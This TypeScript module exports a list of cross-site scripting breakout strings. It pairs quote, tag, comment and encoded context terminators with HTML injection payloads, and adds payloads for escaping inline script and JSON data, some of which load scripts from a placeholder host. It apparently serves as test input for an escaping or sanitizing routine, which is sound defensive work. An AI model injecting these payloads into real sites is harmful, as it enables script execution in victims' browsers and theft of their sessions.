/** Ends of what a text may stand in, written into it. */
const ends = [
  ...[
    '"',
    "'",
    '">',
    "'>",
    '-->',
    '--!>',
    ']]>',
    '*/',
    '`',
    '`;',
    '";',
    "';",
    '");',
    "');",
    '}',
    '});',
    '\\";',
    "\\';",
  ],
  ...[
    '</title>',
    '</textarea>',
    '</style>',
    '</script>',
    '</noscript>',
    '</template>',
    '</iframe>',
    '</xmp>',
  ],
  ...[
    '</option></select>',
    '</svg>',
    '</math>',
    '</a>',
    '</p></div></main>',
    '</table>',
    '<!--',
    '<![CDATA[',
  ],
  ...[
    '&quot;>',
    '&#34;>',
    '&#x22;&#x3e;',
    '%22%3E',
    '\\u0022\\u003e',
    '\\x22\\x3e',
    '\u2028',
    '\u2029',
    '\n">',
    "\t'>",
  ],
];

const payloads = ['<img src=x onerror=RUN>', '<script>RUN</script>', ' autofocus onfocus=RUN x=', 'RUN//'];

const outOf = ends.flatMap((end) => payloads.map((payload) => end + payload));

/** Within the data that pages carry for their scripts and for search engines. */
const outOfData = [
  ...[
    '</script><script>RUN</script>',
    '</SCRIPT ><svg onload=RUN>',
    '</script\n><img src=x onerror=RUN>',
    '</script/x>RUN',
  ],
  ...[
    '<!--<script>RUN</script>',
    '<!--<script>-->',
    '<!-- <script> <!-- </script> RUN',
    '--><script>RUN</script>',
  ],
  ...[
    '"}];RUN;[{"',
    '"},"x":RUN,"y":{"',
    '\\"}];RUN//',
    '\\u003c/script\\u003e\\u003cscript\\u003eRUN\\u003c/script\\u003e',
  ],
  ...[
    '"+RUN+"',
    "'+RUN+'",
    '"-RUN-"',
    '"};RUN;var x={"',
    '\u2028RUN\u2029',
    '"\n;RUN\n"',
    '/*</script>*/RUN',
    '</ScRiPt><b>',
  ],
  ...[
    '<script type=module>RUN</script>',
    '<script type=speculationrules>{"prefetch":[{"urls":["AWAY"]}]}</script>',
  ],
  ...['<script type=importmap>{"imports":{"/assets/":"AWAY"}}</script>', '<script src=AWAY></script>'],
  ...[
    '<script src=data:,RUN></script>',
    '<script/src=AWAY>',
    '<script\x0csrc=AWAY></script>',
    '<<script>RUN//<</script>',
  ],
];

export const breakouts: string[] = [...outOf, ...outOfData];
